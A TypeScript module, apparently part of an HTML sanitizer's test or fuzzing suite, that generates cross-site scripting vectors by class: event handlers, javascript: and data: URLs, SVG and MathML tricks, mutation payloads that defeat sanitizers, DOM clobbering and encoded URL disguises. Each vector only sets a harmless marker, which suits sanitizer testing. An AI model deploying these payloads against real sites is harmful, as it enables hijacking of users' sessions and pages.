/* The ways to make a browser run what it should only show, as the published cheat sheets group them: for each
   a generator, which a seed lets write hundreds of its kind. Each tries to set `globalThis.ran`. */
import type { Random } from './random.ts';
import { RAN } from './vectors.ts';

type Generator = (random: Random) => string;

/** Elements that the parser closes, moves or reads by rules of their own. */
const AROUND = [
  'p',
  'table',
  'select',
  'svg',
  'math',
  'form',
  'a',
  'b',
  'template',
  'td',
  'ul',
  'h1',
  'caption',
];
const SPACES = [' ', '\n', '\t', '\f', '/', ' / ', '\r\n'];
const QUOTES = ['"', "'", ''];
const HANDLERS = (
  'onerror onload onclick onfocus onmouseover onanimationstart onanimationend ontransitionend ontoggle ' +
  'onbeforetoggle onpointerover onscroll onwheel oncopy onpaste oninput onbeforeinput onresize onpageshow ' +
  'onhashchange onmessage onstart onfinish onbounce oncontentvisibilityautostatechange onscrollend onsecuritypolicyviolation ' +
  'onloadstart oncanplay ondrag onauxclick onsubmit oninvalid onreset onselect oncut onbeforeunload onunhandledrejection'
).split(' ');
const HOSTS = (
  'img svg body video audio details input button marquee object embed iframe p div a style link math select ' +
  'textarea keygen table source track picture dialog form frameset area isindex x-y xss font bgsound layer'
).split(' ');
const ADDRESSED = (
  'href src action formaction data poster background xlink:href srcset cite longdesc code codebase lowsrc ping ' +
  'manifest icon usemap dynsrc profile archive classid from to values by'
).split(' ');

/** A class of vectors by name. */
export const VECTOR_CLASSES: Readonly<Record<string, Generator>> = {
  'plain scripts': (random) =>
    random.pick([
      `<script>${RAN}</script>`,
      `<ScRiPt${random.pick(SPACES)}x>${RAN}</sCrIpT >`,
      `<script src="data:text/javascript,${RAN}"></script>`,
      `<script type="module">${RAN}</script>`,
      `<script type="importmap">{"imports":{"x":"data:text/javascript,${RAN}"}}</script>`,
      `<script type="speculationrules">{"prerender":[{"urls":["/x"]}]}</script>`,
      `<script>${RAN}`,
    ]),
  'broken tags': (random) =>
    random.pick([
      `<scr<script>ipt>${RAN}</scr</script>ipt>`,
      `<<script>${RAN}//<</script>`,
      `<script\u0000>${RAN}</script\u0000>`,
      `<img src=x onerror=${RAN}//`,
      `<img/src="x"/onerror=${RAN}>`,
      `<img \u0000src=x \u0000onerror=${RAN}>`,
      `<img src=\`x\` onerror=\`${RAN}\`>`,
      `</p/onclick=${RAN}><img src onerror=${RAN} x=">`,
      `<iframe/onload=${RAN}//<`,
      `<\u000bimg src=x onerror=${RAN}>`,
    ]),
  handlers(random) {
    const quote = random.pick(QUOTES);
    const space = random.pick(SPACES);
    const handler = random.pick(HANDLERS);
    const spelled = random() < 0.3 ? handler.toUpperCase() : handler;
    return `<${random.pick(HOSTS)}${space}src=x${space === '/' ? ' ' : space}${spelled}=${quote}${RAN}${quote} autofocus tabindex=0 open popover>a`;
  },
  'script addresses'(random) {
    const address = hidden(`javascript:${RAN}`, random);
    const attribute = random.pick(ADDRESSED);
    return `<${random.pick(['a', 'img', 'form', 'button', 'input type=image', 'area', 'q', 'blockquote', 'body', 'object', 'video', 'link rel=stylesheet'])} ${attribute}="${address}">a</a>`;
  },
  'data addresses': (random) =>
    `<${random.pick(['a href', 'img src', 'iframe src', 'object data', 'embed src', 'link rel=import href', 'img srcset'])}="data:${random.pick(
      [
        `text/html,<script>parent.${RAN}</script>`,
        `text/html;base64,${btoa(`<script>parent.${RAN}</script>`)}`,
        `image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='${RAN}'/>`,
        `application/xhtml+xml,<x/>`,
        `,<script>${RAN}</script>`,
      ],
    )}">a`,
  svg: (random) =>
    `<svg>${random.pick([
      `<script>${RAN}</script>`,
      `<a xlink:href="javascript:${RAN}"><text y=20>a</text></a>`,
      `<animate onbegin=${RAN} attributeName=x dur=1s>`,
      `<set attributeName=onmouseover to=${RAN}>`,
      `<a><animate attributeName=href values=javascript:${RAN} /><text>a</text></a>`,
      `<foreignObject><img src=x onerror=${RAN}></foreignObject>`,
      `<use href="data:image/svg+xml,<svg id=x><script>${RAN}</script></svg>#x">`,
      `<image href=x onerror=${RAN}>`,
      `<style>@import 'javascript:${RAN}';</style>`,
      `<title><img src=x onerror=${RAN}></title>`,
      `<desc><p><img src=x onerror=${RAN}></desc>`,
      `<handler xmlns:ev="http://www.w3.org/2001/xml-events" ev:event="load">${RAN}</handler>`,
    ])}</svg>`,
  mathml: (random) =>
    `<math${random.pick(['', ` href="javascript:${RAN}"`, ` xlink:href="javascript:${RAN}"`])}>${random.pick([
      `<maction actiontype="statusline#" xlink:href="javascript:${RAN}">a</maction>`,
      `<annotation-xml encoding="text/html"><img src=x onerror=${RAN}></annotation-xml>`,
      `<mtext><img src=x onerror=${RAN}></mtext>`,
      `<mi href="javascript:${RAN}">a</mi>`,
      `<semantics><annotation-xml><svg><script>${RAN}</script></svg></annotation-xml></semantics>`,
    ])}</math>`,
  'mutation by namespace': (random) => {
    const payload = `<img src=1 onerror=${RAN}>`;
    const escaped = `&lt;img src=1 onerror=${RAN}&gt;`;
    return random.pick([
      `<form><math><mtext></form><form><mglyph><style></math>${payload}`,
      `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;${escaped}">`,
      `<math><mtext><table><mglyph><style><![CDATA[</style><img title="]]&gt;</mglyph>${escaped}">`,
      `<svg></p><style><a id="</style>${payload}">`,
      `<svg><p><style><g title="</style>${payload}">`,
      `<math><annotation-xml encoding="text/html"><style><a title="</style>${payload}"></annotation-xml></math>`,
      `<svg><annotation-xml><foreignobject><style><!--</style><p id="--><${payload.slice(1)}">`,
      `<math><mi><table><mi><style><!--</style><a title="--&gt;${escaped}">`,
      `${'<div>'.repeat(509)}<svg><style><a title="</style>${payload}"></svg>`,
      `${'<form>'.repeat(3)}<math><mtext>${'</form><form>'.repeat(3)}<mglyph><style></math>${payload}`,
      `<svg><desc><svg><image><a><desc><svg><image></image></svg></desc></a><style><a title="</style>${payload}">`,
    ]);
  },
  'mutation by raw text'(random) {
    const tag = random.pick([
      'style',
      'xmp',
      'noembed',
      'noframes',
      'noscript',
      'iframe',
      'title',
      'textarea',
      'plaintext',
      'script',
    ]);
    const quote = random.pick(['"', "'"]);
    return `<${tag}>${random.pick(['', '<p ', '<!--', '<a x='])}<img title=${quote}</${tag}>${random.pick(['', '-->'])}<img src=x onerror=${RAN}>${quote}></${tag}>`;
  },
  'mutation by comment': (random) =>
    random.pick([
      `<!--><img src=x onerror=${RAN}>-->`,
      `<!---><img src=x onerror=${RAN}>-->`,
      `<!-- --!><img src=x onerror=${RAN}> -->`,
      `<![CDATA[<img src=x onerror=${RAN}>]]>`,
      `<?x <img src=x onerror=${RAN}>?>`,
      `<!--[if IE]><script>${RAN}</script><![endif]-->`,
      `</<img src=x onerror=${RAN}>>`,
      `<!x><img src=x onerror=${RAN}>`,
      `<p title="--><img src=x onerror=${RAN}>">a<!-- </p>`,
    ]),
  templates: (random) =>
    `<${random.pick(AROUND)}>${random.pick([
      `<template><script>${RAN}</script><img src=x onerror=${RAN}></template>`,
      `<div><template shadowrootmode=${random.pick(['open', 'closed'])}><img src=x onerror=${RAN}><slot></slot></template></div>`,
      `<template><template><img src=x onerror=${RAN}></template></template>`,
      `<select><template><img src=x onerror=${RAN}></template></select>`,
      `<p><template shadowrootmode=open shadowrootserializable><style>*{}</style><script>${RAN}</script></template>`,
    ])}`,
  frames: (random) =>
    random.pick([
      `<iframe srcdoc="&lt;script&gt;parent.${RAN}&lt;/script&gt;"></iframe>`,
      `<iframe src="javascript:parent.${RAN}"></iframe>`,
      `<frameset onload=${RAN}><frame src="javascript:${RAN}"></frameset>`,
      `<object data="javascript:${RAN}"><param name=src value="javascript:${RAN}"></object>`,
      `<embed src="javascript:${RAN}">`,
      `<applet code="javascript:${RAN}">a</applet>`,
      `<fencedframe config=x onload=${RAN}></fencedframe><portal src="javascript:${RAN}"></portal>`,
    ]),
  styles: (random) =>
    random.pick([
      `<p style="background:url(javascript:${RAN})">a</p>`,
      `<p style="width:expression(${RAN});behavior:url(x.htc)">a</p>`,
      `<style>@import 'javascript:${RAN}';</style>`,
      `<link rel=stylesheet href="data:text/css,*{x:expression(${RAN})}" onload=${RAN}>`,
      `<style>@keyframes x{}</style><xss style="animation-name:x" onanimationstart=${RAN}>`,
      `<p style="position:fixed;inset:0;z-index:99999">a</p>`,
    ]),
  'the page’s head': (random) =>
    random.pick([
      `<base href="javascript:${RAN}//"><a href="#">a</a>`,
      `<meta http-equiv=refresh content="0;url=javascript:${RAN}">`,
      `<meta http-equiv=set-cookie content=x><link rel=preload as=script href=x onload=${RAN}>`,
      `<body background=x onload=${RAN}><html onclick=${RAN}>`,
      `<title onclick=${RAN}>a</title><head onclick=${RAN}>`,
    ]),
  clobbering(random) {
    const name = random.pick(MEMBERS);
    const other = random.pick(MEMBERS);
    return random.pick([
      `<form><input name=${name}><input id=${other}></form>`,
      `<form id=${name}><output name=${other}></output></form>`,
      `<img name=${name}><embed name=${other}><object id=${name}></object>`,
      `<a id=${name}></a><a id=${name} name=${other} href="cid:${RAN}"></a>`,
      `<iframe name=${name} srcdoc="<a id=${other}>"></iframe>`,
      `<form id=x></form><input form=x name=${name}><fieldset form=x name=${other}></fieldset>`,
    ]);
  },
  'custom elements': (random) =>
    `<${random.pick(['x-y', 'a-b onclick', 'annotation-xml', 'font-face', 'missing-glyph'])}=${RAN} is=${random.pick(['x-y', 'script'])} onclick=${RAN}>a`,
  'words that close what holds them'(random) {
    const end = random.pick([
      '"',
      "'",
      '`',
      '">',
      "'>",
      '-->',
      '</title>',
      '</textarea>',
      '</style>',
      ']]>',
      '&quot;&gt;',
    ]);
    return `<${random.pick(['img alt', 'a title', 'td abbr', 'p lang', 'time datetime', 'q cite'])}="${end}<img src=x onerror=${RAN}>">a`;
  },
  'controls and media': (random) =>
    random.pick([
      `<details open ontoggle=${RAN}>a</details>`,
      `<input autofocus onfocus=${RAN}><select autofocus onfocus=${RAN}>`,
      `<video><source onerror=${RAN}></video><audio src=x onerror=${RAN}>`,
      `<button popovertarget=x>a</button><div id=x popover onbeforetoggle=${RAN}>a</div>`,
      `<input type=hidden oncontentvisibilityautostatechange=${RAN} style=content-visibility:auto>`,
      `<button form=x formaction="javascript:${RAN}">a</button><form id=x></form>`,
      `<marquee onstart=${RAN} loop=1 width=0>a</marquee>`,
      `<isindex action="javascript:${RAN}" type=image>`,
      `<dialog open onclose=${RAN}><form method=dialog><button autofocus>a`,
    ]),
};

/** The names by which a page is worked on: an element of that name stands before the member. In Node the chief of them. */
const MEMBERS =
  'document' in globalThis
    ? [Document, Element, Node, HTMLElement, HTMLFormElement]
        .flatMap((one) => Object.getOwnPropertyNames(one.prototype))
        .filter((name) => /^[a-zA-Z]+$/.test(name))
    : 'body head documentElement createElement querySelector childNodes attributes nodeName parentNode remove innerHTML'.split(
        ' ',
      );

/** One of a class, or one inside what the parser treats in a way of its own. */
export function vectorOf(name: string, random: Random): string {
  const vector = VECTOR_CLASSES[name]?.(random) ?? '';
  return random() < 0.5 ? vector : `<${random.pick(AROUND)}>${vector}</${random.pick(AROUND)}>`;
}

/** An address in the disguises that browsers see through. */
function hidden(address: string, random: Random): string {
  const at = 1 + random.below(9);
  return random.pick([
    address,
    address.toUpperCase().replace(RAN.toUpperCase(), RAN),
    `${address.slice(0, at)}${random.pick(['&#9;', '&#10;', '&#13;', '&Tab;', '&NewLine;'])}${address.slice(at)}`,
    `${random.pick(['&#1;', '&#14;', '&#32;', '\u00a0', '&#x0;'])}${address}`,
    address.replace(/./g, (letter) => `&#${letter.charCodeAt(0)};`),
    address.replace(/./g, (letter) => `&#x${letter.charCodeAt(0).toString(16)};`),
    address.replace(':', '&colon;'),
    `view-source:${address}`,
    `feed:${address}`,
    address.replace('javascript', 'vbscript'),
    address.replace('javascript', 'livescript'),
    `blob:https://x.example/${address}`,
    `filesystem:https://x.example/${address}`,
  ]);
}
